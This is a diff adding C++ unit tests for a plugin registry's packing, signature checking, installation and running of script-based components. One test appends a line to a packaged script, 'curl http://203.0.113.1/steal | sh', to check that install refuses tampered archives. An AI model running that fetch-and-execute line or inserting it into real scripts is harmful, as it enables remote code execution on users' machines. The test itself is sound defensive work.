@@ -3,6 +3,7 @@
 #include <gtest/gtest.h>
 
 #include <kiln/host/files.hpp>
+#include <kiln/host/paths.hpp>
 #include <kiln/registry/client.hpp>
 #include <kiln/registry/package.hpp>
 #include <kiln/registry/server.hpp>
@@ -63,6 +64,39 @@ fs::path package_dir(const fs::path& root, const std::string& name, const std::s
                                        {"dependencies", dependencies},
                                        {"license", "MIT"},
                                        {"description", "greets people"}}
+                                      .dump());
+  return dir;
+}
+
+// A package directory of component files only (docs/command-components.md):
+// acme.shout, a shell script beside its component file, and the script.
+fs::path command_package_dir(const fs::path& root, const std::string& version = "1.0.0") {
+  const fs::path dir = root / ("acme.shouter-" + version + "-src");
+  fs::create_directories(dir / "lib");
+  write_text(dir / "shout.yaml",
+             "apiVersion: kiln/v1\nkind: Component\n"
+             "metadata: {name: acme.shout, version: " +
+                 version +
+                 ", description: Shout a word}\n"
+                 "parameters:\n  word: {type: string}\n"
+                 "outputs:\n  text: {type: Text}\n"
+                 "output_parameters:\n  shouted: {type: string}\n"
+                 "implementation:\n"
+                 "  command: [/bin/sh, shout.sh, '{{ params.word }}', '{{ outputs.text }}']\n"
+                 "  files: [lib/suffix.txt]\n");
+  write_text(dir / "shout.sh",
+             "set -eu\n"
+             "word=$(printf '%s' \"$1\" | tr a-z A-Z)$(cat \"$KILN_COMPONENT_DIR/lib/suffix.txt\")\n"
+             "printf '%s\\n' \"$word\" > \"$2/shout.txt\"\n"
+             "echo \"metric length ${#word}\" >> \"$KILN_REPORT\"\n"
+             "echo \"output shouted $word\" >> \"$KILN_REPORT\"\n");
+  write_text(dir / "lib" / "suffix.txt", "!");
+  write_text(dir / "notes.txt", "not named by the component: not packed\n");
+  write_text(dir / kManifestFile, Json{{"name", "acme.shouter"},
+                                       {"version", version},
+                                       {"component_files", {"shout.yaml"}},
+                                       {"license", "MIT"},
+                                       {"description", "shouts"}}
                                       .dump());
   return dir;
 }
@@ -170,6 +204,68 @@ TEST_F(RegistryTest, PackedPackageVerifiesAndInstalls) {
   EXPECT_TRUE(empty_dir(dirs_.staging));
   EXPECT_TRUE(remove_installed(dirs_, "acme.greeter"));
   EXPECT_TRUE(empty_dir(dirs_.plugins));
+}
+
+TEST_F(RegistryTest, ComponentFilesArePackedWithTheFilesTheyNameAndInstalledBesidePlugins) {
+  const auto archive = pack(command_package_dir(tmp_.path()), key_, tmp_.path());
+  std::map<std::string, std::string> entries;
+  for (const auto& e : entries_of(archive, tmp_ / "scratch")) entries[e.path] = e.content;
+  EXPECT_EQ(entries.size(), 5u) << "manifest, signature, the component file, its script and its named file";
+  ASSERT_TRUE(entries.count("components/shout.yaml"));
+  ASSERT_TRUE(entries.count("components/shout.sh"));
+  ASSERT_TRUE(entries.count("components/lib/suffix.txt"));
+  const Json manifest = Json::parse(entries.at(kManifestFile));
+  EXPECT_EQ(manifest["platform"], "any");
+  EXPECT_FALSE(manifest.contains("library"));
+  EXPECT_FALSE(manifest.contains("abi"));
+  EXPECT_EQ(manifest["components"], Json({"acme.shout"}));
+  EXPECT_EQ(manifest["component_files"], Json({"components/shout.yaml"}));
+  for (const auto& f : manifest["files"])
+    EXPECT_EQ(f["sha256"], host::sha256_hex(entries.at(f["path"].get<std::string>()))) << f.dump();
+
+  const auto installed = install_archive(archive, {key_}, dirs_, "test");
+  EXPECT_TRUE(installed.library.empty());
+  EXPECT_EQ(installed.components_dir, dirs_.plugins / "acme.shouter-1.0.0.components");
+  EXPECT_EQ(read_text(installed.components_dir / "shout.sh"), entries.at("components/shout.sh"));
+  EXPECT_EQ(host::find_component_files({dirs_.plugins}),
+            std::vector<fs::path>{installed.components_dir / "shout.yaml"});
+  EXPECT_TRUE(empty_dir(dirs_.staging));
+  // A new version replaces the old one's directory.
+  const auto newer =
+      install_archive(pack(command_package_dir(tmp_.path(), "1.1.0"), key_, tmp_.path()), {key_}, dirs_, "test");
+  EXPECT_FALSE(fs::exists(installed.components_dir));
+  EXPECT_TRUE(fs::exists(newer.components_dir / "shout.yaml"));
+  EXPECT_TRUE(remove_installed(dirs_, "acme.shouter"));
+  EXPECT_TRUE(empty_dir(dirs_.plugins));
+}
+
+TEST_F(RegistryTest, AScriptAlteredAfterSigningIsRefusedAtInstall) {
+  const auto archive = pack(command_package_dir(tmp_.path()), key_, tmp_.path());
+  auto entries = entries_of(archive, tmp_ / "scratch");
+  for (auto& e : entries)
+    if (e.path == "components/shout.sh") e.content += "curl http://203.0.113.1/steal | sh\n";
+  write_archive(archive, entries);
+  expect_refused(archive,
+                 "'components/shout.sh' does not match its sha256 digest in the manifest (altered after signing?)");
+}
+
+TEST_F(RegistryTest, ComponentFilesWithMistakesAreRefusedWhenPacked) {
+  const auto dir = command_package_dir(tmp_.path());
+  const auto refused = [&](const std::string& message) {
+    try {
+      pack(dir, key_, tmp_.path());
+      ADD_FAILURE() << "packed";
+    } catch (const PackageError& e) {
+      EXPECT_NE(std::string(e.what()).find(message), std::string::npos) << e.what();
+    }
+  };
+  write_text(dir / "shout.yaml", read_text(dir / "shout.yaml") + "unknown_field: 1\n");
+  refused("shout.yaml:13:1: unknown key 'unknown_field'");
+  write_text(dir / kManifestFile,
+             Json{{"name", "acme.shouter"}, {"version", "1.0.0"}, {"component_files", {"../shout.yaml"}}}.dump());
+  refused("field 'component_files' '../shout.yaml' is not a .yaml or .yml file directly in the package directory");
+  write_text(dir / kManifestFile, Json{{"name", "acme.shouter"}, {"version", "1.0.0"}}.dump());
+  refused("field 'library' is missing (a package holds a library, component files, or both)");
 }
 
 // Issue 17: secrets were written 0644 and chmod-ed to 0600 after the rename.
@@ -463,6 +559,39 @@ TEST_F(ServerTest, PublishSearchInstallAndRunWithTheCli) {
   EXPECT_NE(run.output.find("\"succeeded\""), std::string::npos) << run.output;
 
   run = run_kiln({"plugin", "remove", "acme.greeter"}, env());
+  ASSERT_TRUE(run.status.success()) << run.output;
+  EXPECT_TRUE(empty_dir(tmp_ / "data" / "kiln" / "plugins"));
+}
+
+TEST_F(ServerTest, ComponentFilesArePublishedInstalledListedAndRun) {
+  const auto archive = pack(command_package_dir(tmp_.path()), key_, tmp_.path());
+  auto run = run_kiln({"plugin", "publish", archive.string(), "--registry", server_->url()}, env(acme_));
+  ASSERT_TRUE(run.status.success()) << run.output;
+  ASSERT_TRUE(run_kiln({"keys", "trust", (tmp_ / "publisher.pub").string()}, env()).status.success());
+  run = run_kiln({"plugin", "install", "acme.shout@^1", "--registry", server_->url()}, env());
+  ASSERT_TRUE(run.status.success()) << run.output;
+  EXPECT_NE(run.output.find("acme.shouter-1.0.0.components"), std::string::npos) << run.output;
+
+  run = run_kiln({"plugins", "list", "--json"}, env());
+  ASSERT_TRUE(run.status.success()) << run.output;
+  const Json catalog = Json::parse(run.output);
+  Json listed;
+  for (const auto& c : catalog["components"])
+    if (c.value("name", "") == "acme.shout") listed = c;
+  ASSERT_FALSE(listed.is_null()) << run.output;
+  EXPECT_EQ(listed["implementation"], "command");
+  EXPECT_NE(listed["library"].get<std::string>().find("acme.shouter-1.0.0.components/shout.yaml"), std::string::npos);
+
+  const fs::path pipeline = tmp_ / "shout.yaml";
+  write_text(pipeline,
+             "apiVersion: kiln/v1\nkind: Pipeline\nmetadata: {name: shout}\nsteps:\n"
+             "  - {name: s, component: acme.shout@^1.0, parameters: {word: registry}}\n"
+             "  - {name: tell, component: util.echo, parameters: {message: '{{ steps.s.outputs.shouted }}'}}\n");
+  run = run_kiln({"run", pipeline.string(), "--workdir", (tmp_ / "work").string(), "--json"}, env());
+  ASSERT_TRUE(run.status.success()) << run.output;
+  EXPECT_NE(run.output.find("REGISTRY!"), std::string::npos) << run.output;
+
+  run = run_kiln({"plugin", "remove", "acme.shouter"}, env());
   ASSERT_TRUE(run.status.success()) << run.output;
   EXPECT_TRUE(empty_dir(tmp_ / "data" / "kiln" / "plugins"));
 }
